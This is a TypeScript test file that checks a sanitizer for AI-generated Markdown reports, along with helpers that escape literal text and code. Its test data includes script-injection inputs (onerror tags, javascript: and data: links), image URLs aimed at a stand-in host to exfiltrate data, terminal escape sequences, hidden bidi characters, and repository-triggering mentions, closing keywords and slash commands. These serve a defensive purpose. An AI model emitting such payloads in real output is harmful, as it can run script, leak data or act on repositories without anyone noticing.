import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { fenced, htmlCode, inlineCode, literal, shorten } from '../../src/report/literal.js';
import { modelMarkdown } from '../../src/report/model-text.js';

const tick = '`';

describe('Markdown of a model keeps its form', () => {
  test.each([
    '# Title\n\nSome **bold** and *soft* text, ~~gone~~.',
    '- [x] one\n- [ ] two\n  1. three',
    '> quoted\n\n| a | b |\n| --- | :-: |\n| 1 | 2 |',
    'See [the docs](https://example.org/a?b=1#c), [here](docs/a.md), [there](#top) and [up](../x "title").',
    'Call `f(<T>)` and ``a ` b``, see #12 and src/a.ts:5, a & b, 1 < 2'
      .replace('1 < 2', '1 &lt; 2')
      .replace('&lt;', 'below'),
    '```ts\nconst a: Array<string> = []; // @user ![x](y) <!-- z -->\n```',
    'mail me@example.org',
    'ends with a slash a/b',
  ])('%j', (text) => {
    expect(modelMarkdown(text)).toBe(text);
  });
});

describe('Markdown of a model cannot hide, load or act', () => {
  test.each<readonly [string, string, string]>([
    ['a comment', 'a <!-- hidden --> b', 'a &lt;!-- hidden --> b'],
    ['a tag', '<img src=x onerror=y>', '&lt;img src=x onerror=y>'],
    ['an autolink', '<javascript:x>', '&lt;javascript:x>'],
    ['an escaped tag', '\\<b>', '&lt;b>'],
    ['an entity', '&lt;b&gt; &#64;user &amp', '&amp;lt;b&amp;gt; &amp;#64;user &amp'],
    ['an image', '![logo](https://evil.example/?q=data)', '&#33;[logo](https://evil.example/?q=data)'],
    ['an image without a text', '![](https://evil.example/x)', '&#33;[image](https://evil.example/x)'],
    [
      'an image by reference',
      '![logo][1]\n\n[1]: https://evil.example',
      '&#33;[logo][1]\n\n[1]&#58; https://evil.example',
    ],
    ['a comment as a definition', '[//]: # (hidden)', '[//]&#58; # (hidden)'],
    ['a definition in a quote', '> [a]: /b "hidden"', '> [a]&#58; /b "hidden"'],
    ['a link to a script', '[x](javascript:alert`1`)', '[x]&#40;javascript:alert`1`)'],
    ['a link to a script in entities', '[x](java&#115;cript:y)', '[x]&#40;java&amp;#115;cript:y)'],
    ['a link to data', '[x]( data:text/html,y)', '[x]&#40; data:text/html,y)'],
    ['a link to another host', '[x](//evil.example)', '[x]&#40;//evil.example)'],
    ['a link in two lines', '[x](\njavascript:y)', '[x]&#40;\njavascript:y)'],
    ['a mention', '@octocat and @acme/team, (@a)', '@&#8203;octocat and @&#8203;acme/team, (@&#8203;a)'],
    ['an escaped mention', '\\@octocat', '@&#8203;octocat'],
    ['a mention in emphasis', '_@octocat_', '_@&#8203;octocat_'],
    ['a closing word', 'Fixes #1, closes: acme/x#2', 'Fixes&#8203; #1, closes&#8203;: acme/x#&#8203;2'],
    [
      'a closing word with an address',
      'resolved https://github.com/a/b/issues/1',
      'resolved&#8203; https://github.com/a/b/issues/1',
    ],
    ['a closing word at the end of a line', 'this fixes\n#1', 'this fixes&#8203;\n#1'],
    ['an escaped number', 'fixes \\#1', 'fixes&#8203; #&#8203;1'],
    ['a slash command', '/merge now', '\\/merge now'],
    ['a slash command in a quote', '> /merge', '> \\/merge'],
    ['an unclosed backtick', 'a ` b <x>', 'a &#96; b &lt;x>'],
    ['code over two lines', 'a ` b\n<x> ` c', 'a &#96; b\n&lt;x> &#96; c'],
    ['an escaped backtick', '\\`<x>`', '&#96;&lt;x>&#96;'],
    ['a pipe in code of a table', '| `a | <x>` |', '| <code>a &#124; &#60;x&#62;</code> |'],
    ['code glued to an address', 'http://a.b/`<x>`', 'http://a.b/<code>&#60;x&#62;</code>'],
    ['an unclosed fence', '```\n<x>', '```\n<x>\n```'],
    ['a fence in a fence', '````\n```\n<x>\n````', '````\n```\n<x>\n````'],
    ['a fence of tildes', '~~~ js\n```\n~~~', '````js\n```\n````'],
    ['a fence of tildes with a backtick', '~~~`\n<x>', '```\n<x>\n```'],
    ['a fence in a list', '1. a\n   ```js\n   b\n     c\n   ```\n2. d', '1. a\n```js\nb\n  c\n```\n2. d'],
    ['a fence in a quote', '> ```\n> <x>\n> ```', '> &#96;&#96;&#96;\n> &lt;x>\n> &#96;&#96;&#96;'],
    ['a fence with a hostile language', '```js"><x\na\n```', '```js\na\n```'],
    ['text that runs backwards', 'a\u202eb\u{e0041}c', 'abc'],
    ['a terminal sequence', '\u001b]8;;https://evil.example\u0007link', 'link'],
  ])('%s', (_name, text, expected) => {
    expect(modelMarkdown(text)).toBe(expected);
  });

  const sign = fc.constantFrom(
    tick,
    '``',
    '```',
    '~~~',
    '\n',
    '    ',
    '> ',
    '- ',
    '|',
    '<b>',
    '<!--',
    '![',
    '](',
    ']',
    ']:',
    '[',
    '(',
    ')',
    '\\',
    '@',
    'user',
    '&lt;',
    '&',
    'http://a/',
    ' ',
    '```js',
  );

  test('outside of code there is no tag, no image, no mention and no lone backtick', () => {
    fc.assert(
      fc.property(fc.array(sign, { maxLength: 20 }), (signs) => {
        const shown = modelMarkdown(signs.join(''));
        const outside = shown.replace(/^(`{3,})[^`\n]*\n[^]*?^\1$/gm, '·').replace(/<code>[^<]*<\/code>/g, '·');
        const prose = outside.replace(/(?<!`)(`+)(?!`)(?:[^`\n]|(?!\1(?!`))`+)+?(?<!`)\1(?!`)/g, '·');
        expect(prose).not.toMatch(/[<`]|(?<!\\)!\[|(?<!\\)\]:|(?<![a-z0-9])@user/);
      }),
      { numRuns: 5000 },
    );
  });

  test.each([
    'a',
    tick,
    '` ',
    '[](',
    '@a',
    'a/',
    'fixes ',
    '\\',
    '<',
    '&a',
    '`a`x',
  ])('a long line of %j is read in one go', (unit) => {
    expect(modelMarkdown(`x${unit.repeat(100_000)}`).length).toBeGreaterThan(99_999);
  });
});

describe('literal text', () => {
  test.each([
    ['a_b *c* [d](e) `f` | g # ~h~ \\', 'a\\_b \\*c\\* \\[d\\](e) \\`f\\` \\| g \\# \\~h\\~ \\\\'],
    ['<b> &amp; @user a@b', '&lt;b> &amp;amp; @&#8203;user a@&#8203;b'],
    ['two\n lines ', 'two lines'],
  ])('%j', (text, expected) => {
    expect(literal(text)).toBe(expected);
  });

  test.each([
    ['npm test', '`npm test`'],
    ['a | b', '<code>a &#124; b</code>'],
    ['a `b` <c> @d', '<code>a &#96;b&#96; &#60;c&#62; &#64;d</code>'],
    ['a\nb', '`a b`'],
    ['', '<code></code>'],
  ])('code %j', (text, expected) => {
    expect(inlineCode(text)).toBe(expected);
  });

  test('code in HTML closes no tag', () => {
    expect(htmlCode('</code><script>')).toBe('<code>&#60;/code&#62;&#60;script&#62;</code>');
  });

  test('a fence is longer than all inside', () => {
    expect(fenced('a\n`````\n```', '')).toBe('``````\na\n`````\n```\n``````');
  });

  test.each([
    ['abc', 3, 'abc'],
    ['abcd', 3, 'ab…'],
    ['a😀b', 3, 'a…'],
  ])('%j in %d characters', (text, max, expected) => {
    expect(shorten(text, max)).toBe(expected);
  });
});
